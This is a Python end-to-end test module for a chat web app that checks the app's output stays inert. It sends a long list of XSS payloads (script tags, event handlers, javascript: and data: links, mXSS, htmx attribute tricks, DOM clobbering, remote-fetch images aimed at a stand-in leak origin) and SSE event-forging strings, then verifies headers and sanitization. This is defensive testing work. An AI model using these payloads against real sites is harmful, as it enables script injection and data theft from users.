"""Output is never code: hostile text from the user or the model stays inert in a real browser.

A corpus of attacks goes through the composer (user input) and through an
OpenAI-compatible upstream (model output, paced so the page is checked while the reply
still streams), then after a reload. In Chromium: no dialog, no script ran (payloads
try to set ``window.pwned``), no request left the server's origin, every element and
attribute inside a message is on ``webchat.render``'s allow-list, and no CSP violation
was even needed. Then the headers that back this up (CSP, htmx config, nosniff,
cookies) on every response, and the SSE encoder against text that looks like SSE.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from webchat import sse
from webchat.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_SCHEMES

from .chat_client import ChatClient
from .conftest import Server, start_server
from .security_support import (
    chunks,
    htmx_headers,
    make_app,
    message_row,
    openai_sse,
    parse_csp,
    send_turn,
    upstream_env,
)
from .upstream import Reply, Upstream

# Loopback, but another origin than the server: a request to it would be a leak.
LEAK = "http://127.0.0.2:9"

PAYLOADS: list[str] = [
    # Script and event-handler HTML
    "<script>window.pwned = 'script'</script>",
    "<img src=x onerror=\"window.pwned = 'img onerror'\">",
    "<IMG SRC=x OnErRoR=window.pwned=1>",
    "<svg onload=\"window.pwned = 'svg onload'\"></svg>",
    "<svg><script>window.pwned = 'svg script'</script></svg>",
    "<svg><animate onbegin=\"window.pwned = 'animate'\" attributeName=x dur=1s></svg>",
    "<details open ontoggle=\"window.pwned = 'ontoggle'\">x</details>",
    "<body onload=\"window.pwned = 'body'\">",
    "<video><source onerror=\"window.pwned = 'source'\"></video>",
    "<iframe src=\"javascript:window.pwned='iframe'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned='srcdoc'</script>\"></iframe>",
    "<object data=\"javascript:window.pwned='object'\"></object><embed src=\"javascript:1\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned='noscript'>\">",
    "<!--<img src=x onerror=window.pwned='comment'>-->",
    "\"><img src=x onerror=window.pwned='attr breakout'>",
    "</textarea><script>window.pwned = 'textarea'</script>",
    "</title><script>window.pwned = 'title'</script>",
    "<template><script>window.pwned = 'template'</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='mxss'>",
    # Links with dangerous schemes, mixed case, entities, control characters, spaces
    "[plain js](javascript:window.pwned='link')",
    "[mixed case](JaVaScRiPt:window.pwned='mixed')",
    "[entity](&#106;avascript:window.pwned='entity')",
    "[hex entity](&#x6A;&#x61;vascript:window.pwned='hex')",
    "[tab entity](java&#x09;script:window.pwned='tab')",
    "[newline entity](java&#10;script:window.pwned='nl')",
    "[percent](%6Aavascript:window.pwned='percent')",
    "[angle](<javascript:window.pwned='angle'>)",
    "[control](<java\x01script:window.pwned='ctl'>)",
    "[leading space](< javascript:window.pwned='space'>)",
    "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[DATA](DaTa:text/html,<script>window.pwned='data'</script>)",
    "[vb](vbscript:msgbox(1)) [VB](VbScRiPt:msgbox(1))",
    "<javascript:window.pwned='autolink'>",
    "<a href=\"javascript:window.pwned='raw a'\">raw anchor</a>",
    "[titled](https://example.invalid/ \"x\\\" onmouseover=\\\"window.pwned='title'\")",
    # Reference-style links and images
    "[reference link][evil] and ![reference image][leak]",
    "[evil]: javascript:window.pwned='reference'\n[leak]: " + LEAK + "/leak-reference?secret",
    # Remote images and other ways to make the browser fetch something
    f"![remote image]({LEAK}/leak?secret)",
    f"![remote image, titled]({LEAK}/leak-titled?secret \"t\")",
    "![svg data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+)",
    "![js image](javascript:window.pwned='image')",
    f"<img src=\"{LEAK}/leak-raw?secret\">",
    f"<style>body {{ background: url({LEAK}/leak-css) }}</style>",
    f"<link rel=stylesheet href=\"{LEAK}/leak-link\">",
    f"<a href=\"{LEAK}/\" ping=\"{LEAK}/leak-ping\">ping</a>",
    # <base>, <meta refresh>, forms
    f"<base href=\"{LEAK}/\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url={LEAK}/leak-refresh\">",
    f"<form action=\"{LEAK}/leak-form\"><input name=q><button>go</button></form>",
    # htmx attributes: only our own markup may talk to htmx
    "<div hx-get=\"/\" hx-trigger=\"load\" hx-on::after-request=\"window.pwned='hx'\">hx</div>",
    "<button hx-on:click=\"window.pwned='hx-on'\" hx-trigger=\"load\">b</button>",
    f"<div hx-ext=\"sse\" sse-connect=\"{LEAK}/leak-sse\" sse-swap=\"x\">sse</div>",
    "<div hx-post=\"/chat\" hx-vals='{\"text\": \"worm\"}' hx-trigger=\"load\">worm</div>",
    # SVG and MathML tricks, math rendered by the server
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:1\">m</maction></math>",
    "$\\href{javascript:window.pwned='tex href'}{click}$",
    "$\\text{<img src=x onerror=window.pwned='tex text'>}$",
    f"$$\\style{{background:url({LEAK}/leak-tex)}}{{x}}$$",
    "$\\mathrm{</math><img src=x onerror=window.pwned='tex close'>}$",
    # Code blocks whose language or content tries to break out
    "```\" onmouseover=\"window.pwned='fence'\n code\n```",
    "```js\n</code></pre><script>window.pwned = 'code'</script>\n```",
    "| <b onclick=\"window.pwned='cell'\">a</b> | b |\n|:--|--:|\n| <script>1</script> | x |",
    # DOM clobbering
    "<a id=\"pwned\">clobber</a><form id=\"composer\"></form><img name=\"getElementById\">",
    "<input id=\"csrf_token\" name=\"csrf_token\" value=\"x\"><div id=\"form-error\">fake</div>",
    # Bidi overrides and invisible characters
    "harmless \u202egnp.exe\u202c and \u2066isolate\u2069 and zero\u200bwidth",
    f"[\u202ekcilc]({LEAK}/leak-bidi)",
    # Template syntax must stay text
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
]
USER_MESSAGE = "\n\n".join(PAYLOADS)
MODEL_REPLY = "Here are the examples you asked for:\n\n" + "\n\n".join(PAYLOADS) + "\n\nDone."

# Collects CSP violations and keeps a record of sentinels, before any page script runs.
INIT_SCRIPT = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push({directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample});
});
"""

CHECK_PAGE = """(allowed) => {
  const problems = [];
  const roots = document.querySelectorAll(
    ".msg .body .blocks, .msg .body .tail, .msg .text, .msg .think-text");
  for (const root of roots) {
    if (!root.hasAttribute("hx-disable") && !root.classList.contains("text")) {
      problems.push("message container without hx-disable: " + root.className);
    }
    if (root.classList.contains("text") && root.children.length) {
      problems.push("a user message holds elements: " + root.innerHTML.slice(0, 80));
    }
    for (const el of root.querySelectorAll("*")) {
      const tag = el.localName;
      const attrs = allowed.attributes[tag];
      if (!attrs) { problems.push("tag <" + tag + ">"); continue; }
      for (const attr of el.attributes) {
        if (!attrs.includes(attr.name)) problems.push("<" + tag + " " + attr.name + ">");
      }
      if (tag === "a" && !allowed.schemes.test(el.getAttribute("href") || "")) {
        problems.push("link to " + el.getAttribute("href"));
      }
    }
  }
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith("on")) problems.push("handler " + el.localName + " " + attr.name);
    }
  }
  for (const s of document.scripts) {
    if (!(s.getAttribute("src") || "").startsWith("/static/")) problems.push("inline script");
  }
  // Where text from users and models lands: messages, conversation titles, search results.
  const banned = "base, iframe, object, embed, frame, img, svg, style, link, meta, video, " +
                 "audio, source, script, form, input, textarea, template";
  for (const area of document.querySelectorAll(".msg .bubble > .body, .msg .text, " +
                                                "#conversations, .results")) {
    for (const el of area.querySelectorAll(banned)) problems.push("element " + el.localName);
  }
  for (const el of document.querySelectorAll("base, iframe, object, embed, meta[http-equiv]")) {
    problems.push("element " + el.localName);
  }
  for (const form of document.forms) {
    const action = form.getAttribute("action") || "";
    if (!action.startsWith("/") || action.startsWith("//")) problems.push("form to " + action);
  }
  const pwned = typeof window.pwned === "undefined" ? null : String(window.pwned);
  return {problems: problems, pwned: pwned, csp: window.__csp || null, messages: roots.length};
}"""


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    with Upstream(default=Reply(openai_sse(["Noted."]))) as up:
        yield up


@pytest.fixture(scope="module")
def server(upstream: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """One gunicorn worker answering with the upstream's replies."""
    server = start_server(tmp_path_factory.mktemp("payloads"), env=upstream_env(
        upstream, WEBCHAT_MESSAGES_PER_MINUTE="1000", WEBCHAT_COALESCE_MS="20"))
    yield server
    server.stop()


# Attributes that are not in the sanitizer's input allow-list but are added after it: by the
# sanitizer itself (every link opens apart, without referrer) and by static/app.js (it marks
# the code blocks' copy buttons it has translated).
ADDED_LATER = {"a": {"rel", "target"}, "button": {"data-labelled"}}


class Watch:
    """Everything a page did that it should not have: dialogs and foreign requests."""

    def __init__(self, page: Any, origin: str) -> None:
        self.origin = origin
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        page.context.add_init_script(INIT_SCRIPT)
        page.on("dialog", self._dialog)
        page.context.on("request", self._request)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if not request.url.startswith(self.origin + "/"):
            self.requests.append(request.url)

    def check(self, page: Any, when: str, *, min_messages: int = 2) -> dict[str, Any]:
        allowed = {tag: sorted(ALLOWED_ATTRIBUTES[tag] | ADDED_LATER.get(tag, set()))
                   for tag in ALLOWED_TAGS}
        schemes = "^(" + "|".join(sorted(LINK_SCHEMES)) + "):"
        result: dict[str, Any] = page.evaluate(
            f"(a) => ({CHECK_PAGE})({{attributes: a, schemes: new RegExp({json.dumps(schemes)},"
            " 'i')})", allowed)
        assert result["messages"] >= min_messages, (when, result)
        assert result["pwned"] is None, f"{when}: a payload ran: window.pwned = {result['pwned']}"
        assert not self.dialogs, f"{when}: dialogs opened: {self.dialogs}"
        assert not self.requests, f"{when}: requests left the origin: {self.requests}"
        assert not result["problems"], f"{when}: {result['problems']}"
        # Nothing was even tried by the page: the sanitizer removed it before CSP had to.
        assert result["csp"] == [], f"{when}: CSP violations: {result['csp']}"
        return result


def send(page: Any, text: str) -> None:
    page.wait_for_load_state("domcontentloaded")
    box = page.get_by_label("Message", exact=True)
    box.fill(text)
    box.press("Enter")


@pytest.mark.e2e
def test_hostile_user_input_stays_text(server: Server, page: Any) -> None:
    watch = Watch(page, server.url)
    page.goto(server.url + "/")
    send(page, USER_MESSAGE)
    page.locator(".msg.assistant[data-status=complete]").wait_for(timeout=15_000)
    page.wait_for_timeout(300)  # let any load-triggered payload fire
    watch.check(page, "after sending")
    user_text = page.locator(".msg.user .text").first.text_content() or ""
    assert user_text.strip() == USER_MESSAGE.replace("\r\n", "\n").strip()

    page.reload()
    page.wait_for_load_state("load")
    page.wait_for_timeout(300)
    watch.check(page, "after reload")
    assert page.title().startswith("<script>") or "</title>" in page.title()

    mid = page.locator(".msg.user").first.get_attribute("id").removeprefix("m-")
    page.goto(page.url + f"?edit={mid}")
    page.wait_for_load_state("load")
    box = page.locator(f"#edit-{mid}")
    assert box.input_value().strip() == USER_MESSAGE.strip()
    watch.check(page, "in the edit form", min_messages=1)

    page.goto(server.url + "/search?q=pwned")
    page.wait_for_load_state("load")
    assert page.locator("mark").count() >= 1, "the search found nothing to show"
    watch.check(page, "in search results", min_messages=0)
    assert not page.console_errors, page.console_errors

    # The checks can fail: what an unsanitized payload would leave behind is caught.
    page.goto(server.url + "/search?q=pwned")
    page.evaluate("""() => {
        const box = document.createElement("div");
        box.className = "msg";
        box.innerHTML = '<div class="text"><img src="/static/none.png" ' +
                        'onerror="window.pwned=1"></div>';
        document.body.append(box);
    }""")
    page.wait_for_timeout(200)
    with pytest.raises(AssertionError, match="holds elements|tag <img>|handler|CSP"):
        watch.check(page, "self-test", min_messages=0)


@pytest.mark.e2e
def test_hostile_model_output_is_inert_while_streaming_and_after(server: Server,
                                                                 upstream: Upstream,
                                                                 page: Any) -> None:
    pieces = chunks(MODEL_REPLY, 24)
    upstream.next(Reply(openai_sse(pieces), split="events", delay=0.012))
    watch = Watch(page, server.url)
    page.goto(server.url + "/")
    send(page, "Show me some hostile markdown")
    streaming = page.locator(".msg.assistant[aria-busy=true]")
    streaming.wait_for(timeout=10_000)
    checked_midstream = 0
    for blocks in (3, 20, 45):
        try:
            streaming.locator(".blocks > *").nth(blocks).wait_for(timeout=10_000)
        except Exception:  # the reply already finished: no more mid-stream views
            break
        if page.locator(".msg.assistant[aria-busy=true]").count():
            watch.check(page, f"mid-stream after {blocks} blocks")
            checked_midstream += 1
    assert checked_midstream >= 2, "the reply finished before it could be checked mid-stream"
    done = page.locator(".msg.assistant[data-status=complete]")
    done.wait_for(timeout=20_000)
    page.wait_for_timeout(300)
    watch.check(page, "when the reply is complete")
    mid = done.get_attribute("id").removeprefix("m-")
    assert message_row(server.database, mid)["content"] == MODEL_REPLY
    text = done.locator(".body").inner_text()
    assert "<script>window.pwned = 'script'</script>" in text  # shown, as text
    assert "remote image" in text  # images became links (or text), not fetches

    page.reload()
    page.wait_for_load_state("load")
    page.wait_for_timeout(300)
    watch.check(page, "after reload")
    assert not page.console_errors, page.console_errors


# Headers and markup that back the browser up ----------------------------------------

class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.found


def assert_strict_csp(response: Any, where: str, *, frame_ancestors: list[str] | None = None
                      ) -> None:
    header = response.headers.get("Content-Security-Policy", "")
    policy = parse_csp(header)
    assert policy.get("default-src") == ["'self'"], (where, header)
    assert policy.get("script-src") == ["'self'"], (where, header)
    assert policy.get("img-src") == ["'self'"], (where, header)
    assert policy.get("object-src") == ["'none'"], (where, header)
    assert policy.get("base-uri") == ["'none'"], (where, header)
    assert policy.get("form-action") == ["'self'"], (where, header)
    assert policy.get("frame-ancestors") == (frame_ancestors or ["'none'"]), (where, header)
    for source in ("'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "data:", "*", "http:",
                   "https:", "blob:"):
        assert source not in header.split(), (where, source, header)
    if frame_ancestors is None:
        assert response.headers.get("X-Frame-Options") == "DENY", where


def assert_standard_headers(response: Any, where: str) -> None:
    assert response.headers.get("X-Content-Type-Options") == "nosniff", where
    assert response.headers.get("Referrer-Policy") in (
        "same-origin", "no-referrer", "strict-origin", "strict-origin-when-cross-origin"), where


def assert_htmx_config(html: str, where: str) -> None:
    metas = [attrs for tag, attrs in tags(html)
             if tag == "meta" and attrs.get("name") == "htmx-config"]
    assert len(metas) == 1, where
    config = json.loads(metas[0]["content"] or "{}")
    assert config.get("allowEval") is False, (where, config)
    assert config.get("allowScriptTags") is False, (where, config)
    assert config.get("selfRequestsOnly") is True, (where, config)


def assert_containers_disabled(html: str, where: str) -> int:
    """Every element that holds rendered message text carries hx-disable; return how many."""
    count = 0
    for _tag, attrs in tags(html):
        classes = (attrs.get("class") or "").split()
        if {"blocks", "tail", "think-text"} & set(classes):
            assert "hx-disable" in attrs, (where, attrs)
            count += 1
    return count


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Every kind of response the app gives, through the Flask test client."""
    app = make_app(tmp_path_factory.mktemp("headers"), EMBED_ORIGINS=["https://intranet.example"])
    client = app.test_client()
    turn = send_turn(client, "**hello** $x^2$")
    token = turn["token"]
    stream = client.get(turn["stream"])
    stream_body = stream.get_data(as_text=True)
    cid, mid = turn["cid"], turn["reply"]
    got: dict[str, Any] = {"stream": stream, "app": app}
    got["stream_body"] = stream_body
    for name, path in {
        "index": "/", "conversation": f"/c/{cid}", "edit": f"/c/{cid}?edit={turn['user']}",
        "older": f"/c/{cid}/messages?before=1", "search": "/search?q=hello",
        "embed": "/embed", "embed-conversation": f"/embed?c={cid}",
        "export-md": f"/c/{cid}/export.md", "export-json": f"/c/{cid}/export.json",
        "404": "/c/" + "A" * 22, "404-malformed": "/nope", "static": "/static/app.js",
        "embed-js": "/embed.js", "healthz": "/healthz", "metrics": "/metrics",
        "older-bad": f"/c/{cid}/messages?before=x",
    }.items():
        got[name] = client.get(path)
    got["405"] = client.get("/chat")
    got["403"] = client.post("/chat", data={"text": "x"})
    got["403-htmx"] = client.post("/chat", data={"text": "x"}, headers={"HX-Request": "true"})
    got["413"] = client.post("/chat", data={"text": "x" * (app.config["MAX_MESSAGE_CHARS"] + 1)},
                             headers=htmx_headers(token))
    got["fragment"] = client.post("/chat", data={"text": "a new one"}, headers=htmx_headers(token))
    got["regenerate"] = client.post(f"/c/{cid}/m/{mid}/regenerate", headers=htmx_headers(token))
    return got


def test_every_html_response_has_a_strict_csp(pages: dict[str, Any]) -> None:
    html_responses = {name: r for name, r in pages.items()
                      if hasattr(r, "mimetype") and r.mimetype == "text/html"}
    assert len(html_responses) >= 15, sorted(html_responses)
    for name, response in html_responses.items():
        if name.startswith("embed"):
            assert_strict_csp(response, name, frame_ancestors=["https://intranet.example"])
        else:
            assert_strict_csp(response, name)


def test_every_response_has_the_standard_headers(pages: dict[str, Any]) -> None:
    for name, response in pages.items():
        if hasattr(response, "headers"):
            assert_standard_headers(response, name)
    # Downloads are attachments, never rendered in the page's origin.
    for name in ("export-md", "export-json"):
        assert pages[name].headers["Content-Disposition"].startswith("attachment"), name


def test_full_pages_configure_htmx_safely(pages: dict[str, Any]) -> None:
    full = [name for name, r in pages.items() if hasattr(r, "mimetype")
            and r.mimetype == "text/html" and "<html" in r.get_data(as_text=True)]
    assert {"index", "conversation", "search", "embed", "404", "405", "403"} <= set(full)
    for name in full:
        assert_htmx_config(pages[name].get_data(as_text=True), name)


def test_message_containers_carry_hx_disable_everywhere(pages: dict[str, Any]) -> None:
    assert assert_containers_disabled(pages["conversation"].get_data(as_text=True), "page") >= 2
    assert assert_containers_disabled(pages["fragment"].get_data(as_text=True), "fragment") >= 2
    assert assert_containers_disabled(pages["regenerate"].get_data(as_text=True), "restart") >= 2
    data = [line[6:] for line in pages["stream_body"].split("\n") if line.startswith("data: ")]
    assert assert_containers_disabled("\n".join(data), "stream") >= 2


def session_cookie(response: Any, name: str = "session") -> str:
    cookies = [c for c in response.headers.getlist("Set-Cookie") if c.startswith(name + "=")]
    assert cookies, response.headers.getlist("Set-Cookie")
    return cookies[0]


def cookie_flags(cookie: str) -> set[str]:
    return {part.strip().split("=")[0].lower() for part in cookie.split(";")[1:]} | {
        part.strip().lower() for part in cookie.split(";")[1:]}


def test_cookies_are_httponly_and_samesite(tmp_path: Path) -> None:
    app = make_app(tmp_path)
    flags = cookie_flags(session_cookie(app.test_client().get("/")))
    assert "httponly" in flags and "samesite=lax" in flags, flags
    embed = cookie_flags(session_cookie(app.test_client().get("/embed"), "session_embed"))
    assert {"httponly", "secure", "samesite=none", "partitioned"} <= embed, embed


@pytest.mark.parametrize("how", ["https", "trusted proxy"])
def test_cookies_are_secure_over_https(tmp_path: Path, how: str) -> None:
    if how == "https":
        app = make_app(tmp_path)
        response = app.test_client().get("/", base_url="https://localhost")
    else:
        app = make_app(tmp_path, PROXY_HOPS=1)
        response = app.test_client().get("/", headers={"X-Forwarded-Proto": "https",
                                                       "X-Forwarded-For": "203.0.113.9"})
    assert "secure" in cookie_flags(session_cookie(response)), session_cookie(response)


def test_an_untrusted_forwarded_proto_does_not_make_cookies_secure(tmp_path: Path) -> None:
    """Without WEBCHAT_PROXY_HOPS the app believes no X-Forwarded-* header."""
    app = make_app(tmp_path)
    response = app.test_client().get("/", headers={"X-Forwarded-Proto": "https",
                                                   "X-Forwarded-Host": "evil.example"})
    assert "evil.example" not in response.get_data(as_text=True)
    assert "secure" not in cookie_flags(session_cookie(response))


# SSE integrity ---------------------------------------------------------------------

FORGING_TOKENS = ["Hello ", "\n\nevent: done\ndata: x\n\n", "\r", "mid\u0000dle", "id: 999",
                  "\r\nevent: error\r\nid: 1000\r\ndata: y\r\n\r\n", "data: z\n", ": comment\n",
                  "retry: 1\n", "\n\n\n", "event: snapshot\n", "\rid: 5\r\r", " end"]
INCREMENTS = {sse.DELTA, getattr(sse, "TEXT", sse.DELTA), sse.THINK, sse.STATUS}


def parse_sse_strictly(raw: bytes) -> list[dict[str, str]]:
    """Parse an event stream by the WHATWG rules (CRLF, CR and LF end lines)."""
    events, current = [], {"event": "message", "data": [], "id": None}
    for line in re.split(r"\r\n|\r|\n", raw.decode("utf-8")):
        if line == "":
            if current["data"]:
                events.append({"event": current["event"], "data": "\n".join(current["data"]),
                               "id": current["id"]})
            current = {"event": "message", "data": [], "id": current["id"]}
            continue
        if line.startswith(":"):
            continue
        name, _, value = line.partition(":")
        value = value.removeprefix(" ")
        if name == "event":
            current["event"] = value
        elif name == "data":
            current["data"].append(value)
        elif name == "id" and "\x00" not in value:
            current["id"] = value
        elif name != "retry":
            raise AssertionError(f"unknown field in the stream: {line!r}")
    return events


def assert_event_sequence(names: list[str], ids: list[str | None], where: str) -> None:
    assert names[0] == sse.SNAPSHOT and names[-1] == sse.DONE, (where, names)
    assert names.count(sse.SNAPSHOT) == 1 and names.count(sse.DONE) == 1, (where, names)
    assert sse.ERROR not in names, (where, names)
    assert set(names[1:-1]) <= INCREMENTS, (where, names)
    numbers = [int(i or "-1") for i in ids]
    assert all(i is not None and i.isdigit() for i in ids), (where, ids)
    assert numbers == sorted(numbers) and "999" not in ids and "1000" not in ids, (where, ids)


@pytest.mark.e2e
def test_model_text_cannot_end_or_forge_sse_events(server: Server, upstream: Upstream) -> None:
    upstream.next(Reply(openai_sse(FORGING_TOKENS), split="events", delay=0.05))
    client = ChatClient(server.url)
    try:
        _, url = client.send("forge some events")
        raw = bytearray()
        parsed: list[Any] = []
        reader = threading.Thread(target=lambda: parsed.extend(client.events(url, limit=20)))
        reader.start()  # httpx-sse, on one connection; the raw bytes on another
        time.sleep(0.05)
        with httpx.Client(base_url=server.url, cookies=client.http.cookies, timeout=20) as http, \
                http.stream("GET", url, headers={"Accept": "text/event-stream"}) as response:
            assert response.headers["content-type"].startswith("text/event-stream")
            for piece in response.iter_raw():
                raw += piece
                if b"\nevent: done\n" in raw and raw.endswith(b"\n\n"):
                    break
        reader.join(20)
        names = [event.name for event in parsed]
        assert_event_sequence(names, [event.id for event in parsed], "httpx-sse")
        assert b"\r" not in raw, "the stream holds a CR"
        strict = parse_sse_strictly(bytes(raw))
        assert_event_sequence([e["event"] for e in strict], [e["id"] for e in strict], "raw")
        for line in bytes(raw).split(b"\n"):
            assert line == b"" or line.startswith((b"event: ", b"id: ", b"data: ", b"retry: ",
                                                   b": ")), line
        mid = url.split("/")[4]
        stored = message_row(server.database, mid)
        assert stored["status"] == "complete"
        assert stored["content"] == "".join(FORGING_TOKENS)
        # A reconnect with Last-Event-ID gets the same story, and nothing forged either.
        again = client.events(url, headers={"Last-Event-ID": parsed[-1].id})
        assert_event_sequence([e.name for e in again], [e.id for e in again], "reconnect")
    finally:
        client.close()



@pytest.mark.e2e
def test_a_lone_surrogate_from_the_model_does_not_break_the_reply(server: Server,
                                                                   upstream: Upstream) -> None:
    upstream.next(Reply(openai_sse(["before ", "\ud800", " after"]), split="events",
                        delay=0.02))
    client = ChatClient(server.url)
    try:
        _, url = client.send("say something odd")
        events = client.events(url, limit=15)
        assert [e.name for e in events][-1] == sse.DONE, [e.name for e in events]
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            stored = message_row(server.database, url.split("/")[4])
            if stored["status"] not in ("pending", "streaming"):
                break
            time.sleep(0.1)
        assert stored["status"] == "complete"
        assert stored["content"] == "before \ufffd after"
    finally:
        client.close()
